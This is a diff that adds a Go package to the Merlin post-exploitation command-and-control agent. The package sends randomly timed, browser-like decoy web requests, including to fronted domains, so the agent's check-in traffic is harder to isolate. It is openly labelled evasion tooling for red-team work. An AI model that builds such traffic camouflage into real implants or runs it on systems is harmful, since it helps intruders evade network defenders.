@@ -0,0 +1,150 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package decoy sends benign-looking web requests in the background, interleaved with the Agent's check-ins, so that the
+// Agent's traffic pattern is harder to isolate from the host's other web traffic
+package decoy
+
+import (
+	// Standard
+	"fmt"
+	"io"
+	"math/rand"
+	"net/http"
+	"net/url"
+	"strings"
+	"sync"
+	"time"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// FRONT is the target that is replaced with the scheme and host of each of the Agent's URLs so that decoy requests go to
+// the fronted domain without the Agent's Host header
+const FRONT = "front"
+
+// maxBody is the most of a decoy response body that is read before the connection is closed
+const maxBody = 1 << 20
+
+// targets are the URLs decoy requests are sent to; none disables decoy traffic
+var targets []string
+
+// once ensures only one generator is started
+var once sync.Once
+
+// SetTargets parses the comma separated list of http or https URLs decoy requests are sent to. The front keyword adds the
+// scheme and host of each of the Agent's comma separated URLs. An empty string disables decoy traffic
+func SetTargets(value, agentURLs string) error {
+	var t []string
+	for _, target := range strings.Split(value, ",") {
+		target = strings.TrimSpace(target)
+		if target == "" {
+			continue
+		}
+		if strings.EqualFold(target, FRONT) {
+			for _, agentURL := range strings.Split(agentURLs, ",") {
+				u, err := url.Parse(strings.TrimSpace(agentURL))
+				if err != nil || (u.Scheme != "http" && u.Scheme != "https") {
+					continue
+				}
+				t = append(t, fmt.Sprintf("%s://%s/", u.Scheme, u.Host))
+			}
+			continue
+		}
+		u, err := url.Parse(target)
+		if err != nil {
+			return fmt.Errorf("decoy.SetTargets(): there was an error parsing the URL %s: %s", target, err)
+		}
+		if u.Scheme != "http" && u.Scheme != "https" {
+			return fmt.Errorf("decoy.SetTargets(): the URL %s must use the http or https scheme", target)
+		}
+		t = append(t, u.String())
+	}
+	targets = t
+	return nil
+}
+
+// Parse converts a duration string (e.g., 45s) into the average time between decoy requests; an empty string or 0
+// disables decoy traffic
+func Parse(value string) (time.Duration, error) {
+	value = strings.TrimSpace(value)
+	if value == "" || value == "0" {
+		return 0, nil
+	}
+	interval, err := time.ParseDuration(value)
+	if err != nil {
+		return 0, fmt.Errorf("decoy.Parse(): there was an error parsing the interval %s: %s", value, err)
+	}
+	return interval, nil
+}
+
+// Start sends a decoy request to a random target at random times that average the interval, using the Agent's User-Agent
+// and proxy. Nothing is started when there aren't any targets or the interval is 0 or less
+func Start(interval time.Duration, userAgent, proxy string) error {
+	if interval <= 0 || len(targets) == 0 {
+		return nil
+	}
+	transport := http.DefaultTransport.(*http.Transport).Clone()
+	if proxy != "" {
+		proxyURL, err := url.Parse(proxy)
+		if err != nil {
+			return fmt.Errorf("decoy.Start(): there was an error parsing the proxy %s: %s", proxy, err)
+		}
+		transport.Proxy = http.ProxyURL(proxyURL)
+	}
+	client := &http.Client{Transport: transport, Timeout: 30 * time.Second}
+	once.Do(func() {
+		go generate(client, interval, userAgent)
+	})
+	return nil
+}
+
+// generate sends decoy requests forever, waiting between half and one and a half times the interval before each one
+func generate(client *http.Client, interval time.Duration, userAgent string) {
+	for {
+		time.Sleep(interval/2 + time.Duration(rand.Int63n(int64(interval))))
+		target := targets[rand.Intn(len(targets))]
+		err := request(client, target, userAgent)
+		if err != nil {
+			cli.Message(cli.DEBUG, fmt.Sprintf("decoy.generate(): %s", err))
+			continue
+		}
+		cli.Message(cli.DEBUG, fmt.Sprintf("decoy.generate(): sent decoy request to %s", target))
+	}
+}
+
+// request sends a GET request to the target and reads the response like a browser would
+func request(client *http.Client, target, userAgent string) error {
+	req, err := http.NewRequest(http.MethodGet, target, nil)
+	if err != nil {
+		return fmt.Errorf("there was an error creating a request for %s: %s", target, err)
+	}
+	req.Header.Set("User-Agent", userAgent)
+	req.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
+	req.Header.Set("Accept-Language", "en-US,en;q=0.9")
+	resp, err := client.Do(req)
+	if err != nil {
+		return fmt.Errorf("there was an error sending a request to %s: %s", target, err)
+	}
+	defer resp.Body.Close()
+	_, err = io.Copy(io.Discard, io.LimitReader(resp.Body, maxBody))
+	return err
+}